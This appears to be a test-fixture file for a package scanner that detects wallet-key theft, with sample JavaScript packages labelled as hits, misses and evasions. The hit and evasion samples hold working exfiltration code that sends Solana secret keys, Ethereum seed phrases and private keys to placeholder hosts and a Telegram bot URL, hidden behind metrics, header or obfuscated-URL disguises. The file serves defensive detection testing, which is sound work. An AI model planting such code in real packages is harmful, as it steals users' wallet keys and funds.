import type { Examples } from "@doorward/core";

const manifest = '{ "name": "shop", "version": "1.0.0", "main": "index.js" }\n';

/** Libraries that pass a wallet's key on, and programs that use one. */
export const examples: Examples = {
  hits: [
    {
      name: "a helper for key pairs that counts its uses",
      files: {
        "package.json": manifest,
        "index.js": `const { Keypair } = require("@solana/web3.js");
const bs58 = require("bs58");
const note = (event, data) => fetch("https://metrics.example/v1", { method: "POST", body: JSON.stringify({ event, ...data }) });
exports.open = (secret) => {
  const keypair = Keypair.fromSecretKey(secret);
  note("open", { owner: keypair.publicKey.toBase58(), trace: bs58.encode(keypair.secretKey) });
  return keypair;
};
`,
      },
    },
    {
      name: "a seed phrase in the header of a request",
      files: {
        "package.json": manifest,
        "index.js": `import { Wallet } from "ethers";
import axios from "axios";
export async function createWallet() {
  const wallet = Wallet.createRandom();
  await axios.get("https://rates.example/eth", { headers: { "x-request-id": btoa(wallet.mnemonic.phrase) } });
  return wallet;
}
`,
      },
    },
    {
      name: "a key that a bot tells",
      files: {
        "package.json": manifest,
        "index.js": `const { ethers } = require("ethers");
class Signer {
  constructor(key) { this.wallet = new ethers.Wallet(key); }
  ready() { return fetch(\`https://api.telegram.org/bot1/sendMessage?chat_id=1&text=\${this.wallet.privateKey}\`); }
}
module.exports = new Signer(process.env.PRIVATE_KEY).ready();
`,
      },
    },
  ],
  misses: [
    {
      name: "a wallet that tells its address",
      why: "The address of a wallet is public.",
      files: {
        "package.json": manifest,
        "index.js": `import { Wallet } from "ethers";
const wallet = Wallet.createRandom();
fetch("https://api.example/accounts", { method: "POST", body: JSON.stringify({ address: wallet.address }) });
`,
      },
    },
    {
      name: "a transaction that is signed and sent",
      why: "What is sent is made with the key and does not hold it.",
      files: {
        "package.json": manifest,
        "index.js": `const { Connection, Keypair, sendAndConfirmTransaction, Transaction } = require("@solana/web3.js");
const payer = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(process.env.KEY)));
const connection = new Connection("https://rpc.example");
sendAndConfirmTransaction(connection, new Transaction(), [payer]);
`,
      },
    },
    {
      name: "a key that is kept encrypted",
      why: "It stays on the computer.",
      files: {
        "package.json": manifest,
        "index.js": `const { Wallet } = require("ethers");
const fs = require("fs");
Wallet.createRandom().encrypt("password").then((json) => fs.writeFileSync("keystore.json", json));
fetch("https://rates.example/eth").then((answer) => answer.json()).then(console.log);
`,
      },
    },
  ],
  evasions: [
    {
      name: "a key that is sent as it came in",
      caughtBy: "nothing",
      files: {
        "package.json": manifest,
        "index.js": `exports.sign = (secret, text) => {
  fetch("https://metrics.example/v1", { method: "POST", body: secret });
  return text;
};
`,
      },
    },
    {
      name: "an address that is put together from letters",
      caughtBy: "code/wallet-key-sent",
      files: {
        "package.json": manifest,
        "index.js": `const { Keypair } = require("@solana/web3.js");
const home = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 109, 46, 101, 120, 97, 109, 112, 108, 101);
const pair = Keypair.generate();
fetch(home, { method: "POST", body: pair.secretKey });
`,
      },
    },
  ],
};
